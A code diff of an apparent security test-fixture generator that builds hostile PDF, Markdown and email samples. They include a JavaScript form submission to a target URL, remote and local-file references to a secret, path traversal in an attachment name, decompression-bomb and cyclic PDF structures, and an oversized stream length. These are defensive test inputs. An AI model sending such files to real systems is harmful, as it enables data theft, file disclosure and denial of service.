@@ -109,6 +109,7 @@ def _pdf(targets: Targets) -> dict[str, bytes]:
     head += b"2 0 obj\n<</Type/Pages/Count 1/Kids[3 0 R]>>\nendobj\n"
     page = b"3 0 obj\n<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]/Contents 4 0 R>>\nendobj\n"
     stream = b"4 0 obj\n<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream\nendobj\n"
+    twice = (stream % (len(packed), packed)).replace(b"/FlateDecode", b"[/FlateDecode/FlateDecode]")
     end = b"trailer\n<</Root 1 0 R>>\n%%EOF\n"
     kids = b"2 0 obj\n<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>\nendobj\n"
     return {
@@ -117,7 +118,7 @@ def _pdf(targets: Targets) -> dict[str, bytes]:
         "script.pdf": action("/JavaScript", JS=f"this.submitForm('{targets.url}')"),
         "remote.pdf": action("/GoToR", F=str(targets.secret)),
         "unpacks.pdf": head + page + stream % (len(packed), packed) + end,
-        "twice.pdf": head + page + (stream % (len(packed), packed)).replace(b"/Flate", b"/Fl") + end,
+        "twice.pdf": head + page + twice + end,
         "cyclic.pdf": b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n" + kids + end,
         "itself.pdf": head + b"3 0 obj\n3 0 R\nendobj\n" + end,
         "length.pdf": head + page + b"4 0 obj\n<</Length 99999999999>>stream\nx\nendstream\nendobj\n" + end,
@@ -141,8 +142,8 @@ def _text(targets: Targets) -> dict[str, bytes]:
         "include.md": f"# A\n\n![]({url})\n\n<iframe src='{url}'></iframe>\n\n{{{{include {secret}}}}}\n".encode(),
         "external.eml": f"Subject: a\nMIME-Version: 1.0\n{external}\n\nContent-Type: text/plain\n\nWords.\n".encode(),
         "local.eml": (
-            f'Subject: a\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=local-file; name="{secret}"'
-            "\n\nWords.\n"
+            "Subject: a\nMIME-Version: 1.0\nContent-Type: message/external-body; access-type=local-file; "
+            f'name="{secret}"\n\nWords.\n'
         ).encode(),
         "name.eml": (
             f'Subject: a\nMIME-Version: 1.0\nContent-Type: text/plain; name="../../..{targets.created}"\n'
